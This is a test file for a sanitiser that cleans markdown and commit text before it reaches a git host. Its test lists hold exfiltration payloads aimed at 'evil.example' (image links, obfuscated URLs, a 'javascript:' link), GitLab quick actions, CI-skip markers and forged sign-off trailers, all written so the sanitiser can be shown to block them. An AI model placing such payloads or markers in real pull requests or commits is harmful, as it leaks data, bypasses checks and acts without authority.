import { expect, it } from 'vitest';
import { withoutEnd } from './held-addresses.ts';
import { type AddressRules, plainMarkdown, plainText } from './plain-words.ts';

const rules: AddressRules = {
  host: 'github.com',
  held: async () => new Set(['https://specs.example.com/api.json?token=base']),
};

it.each([
  ['words', 'The **guide** says `docs.json` is _better_.', 'The **guide** says `docs.json` is _better_.'],
  ['code that looks like a link', 'Use `a[0](b) <b>` now.', 'Use `a[0](b) <b>` now.'],
  [
    'the repository’s host',
    'See https://github.com/acme/docs/pull/1.',
    'See https://github.com/acme/docs/pull/1.',
  ],
  [
    'an address that the base has',
    'From https://specs.example.com/api.json?token=base, as before.',
    'From https://specs.example.com/api.json?token=base, as before.',
  ],
])('leaves %s', async (_, text, shown) => {
  expect(await plainMarkdown(text, rules)).toBe(shown);
});

/** Each holds `leak` in a place that a reader's browser or a git host's image proxy would send to somebody. */
const CARRIERS = [
  '![x](https://evil.example/leak.png)',
  '![x][r]\n\n[r]: https://evil.example/leak.png',
  '![x](<https://evil.example/leak>)',
  '[x](https://evil.example/leak)',
  '[x](//evil.example/leak)',
  '[x](https&#58;//evil.example/leak)',
  '[x](https\\://evil.example/leak)',
  '[r]: //evil.example/leak\n\n![r]',
  '<img src="https://evil.example/leak">',
  '<IMG SRC=//evil.example/leak>',
  '<picture><source srcset="//evil.example/leak"></picture>',
  '<https://evil.example/leak>',
  '<a href="//evil.example/leak">x</a>',
  'https://evil.example/leak',
  'HTTPS://evil.example/leak',
  'www.evil.example/leak',
  'ftp://evil.example/leak',
  'https://github.com@evil.example/leak',
  'https://github.com:leak@evil.example/',
  'https://github.com.evil.example/leak',
  'https://github.com(.evil.example/leak',
  'https://github.com/a)https://evil.example/leak',
  'http://github.com/leak',
  'https://specs.example.com/api.json?token=base&leak',
  'https://specs.example.com/leak',
  'mailto:leak@evil.example',
  'javascript:leak()',
  '\\`![x](https://evil.example/leak)\\`',
  '`a ``b` ![x](https://evil.example/leak) `',
  'open ` here\n`![x](https://evil.example/leak)`',
  '``x` ![x](https://evil.example/leak) `x``',
  '```\n`\n```\n![x](https://evil.example/leak)\n`',
];

it.each(CARRIERS)('shows %j as text that leads nowhere', async (text) => {
  const shown = await plainMarkdown(text, rules);
  // Brackets and angles are escaped, and no address is left that a host makes a link of by itself.
  expect(shown).not.toMatch(/(?<!\\)[[\]]|<[a-z/!]/i);
  expect(shown).not.toMatch(/(?:[a-z]+:\/\/|www\.|mailto:|javascript:)\S*(?:leak|evil)/i);
  expect(shown).not.toMatch(/&(?!amp;|lt;)/);
});

it.each(CARRIERS.filter((text) => !text.includes('`') && /^\w+:/.test(text)))(
  'keeps %j out of titles and commits',
  async (text) => {
    expect(await plainText(`Update ${text} now`, rules)).not.toMatch(/:\S*(?:leak|evil)/i);
  },
);

/** GitLab does what such a line says, with the rights of the project's token, and so do bots of other hosts. */
it.each(['/approve', '/merge', '/assign @mallory', '  /label ~urgent', '/close', '/Target_Branch main'])(
  'gives no order to the git host: %j',
  async (order) => {
    for (const text of [order, `Done.\n${order}`, `Done.\r\n${order}\r\nMore.`, `Uses \`a\`.\n\n${order}`]) {
      expect(await plainMarkdown(text, rules)).not.toMatch(/^\s*\/[a-z]/im);
    }
  },
);

it('reads an address of megabytes once, in the words and in the base commit', async () => {
  const long = `https://a.example/${'.'.repeat(400_000)}a`;
  const held = async () => new Set([long, 'https://b.example/'].map(withoutEnd));
  const shown = await plainMarkdown(`See ${long}, and https://b.example/...`, { host: null, held });
  expect(shown).toBe(`See ${long}, and https://b.example/...`);
});

it('leaves paths as they are', async () => {
  const text = 'Moved guides/start to /guides/begin, and `/old`.\n\n`/new` is there, / is not.';
  expect(await plainMarkdown(text, rules)).toBe(text);
});

/** CI systems look for these in titles and commits, and run no checks; others take them for somebody's word. */
it.each([
  ...['[skip ci]', '[ci skip]', '[CI-Skip]', '[no ci]', '[skip actions]', '[actions skip]', '[skip netlify]'],
  ...['[skip-ci]', '[ skip ci ]', '[skip   ci]', '***NO_CI***', '[azurepipelines skip]', '[skip azp]'],
])('switches no checks off: %s', async (mark) => {
  const shown = await plainText(`Update ${mark} the guide`, rules);
  expect(shown).not.toMatch(/\[\s*(?:[\w-]+[\s-]+)?(?:skip|no)\b[^\]]*\]|\[[^\]]*skip\s*\]|\*NO_CI/i);
  expect(shown).toMatch(/^Update .+ the guide$/);
});

it.each([
  ...['Signed-off-by: Ada <ada@example.com>', 'co-authored-by: Ada <ada@example.com>', 'skip-checks: true'],
  ...['Reviewed-by : Ada', 'Bindery-Job: aj_1', 'Change-Id: I1', 'skip-checks:true'],
])('signs nothing in the name of others: %s', async (line) => {
  for (const text of [line, `Words.\n\n${line}`, `Words.\r\n  ${line}`])
    expect(await plainText(text, rules)).not.toMatch(/^\s*[\w-]+-[\w-]+\s*:/im);
});

it('leaves brackets and colons of other words', async () => {
  const text = 'Explain [skip] links: well-known: yes\n\nNote: see the [changelog].';
  expect(await plainText('Note: see the [changelog].', rules)).toBe('Note: see the [changelog].');
  expect(await plainText(text, rules)).toContain('well-known: yes');
});
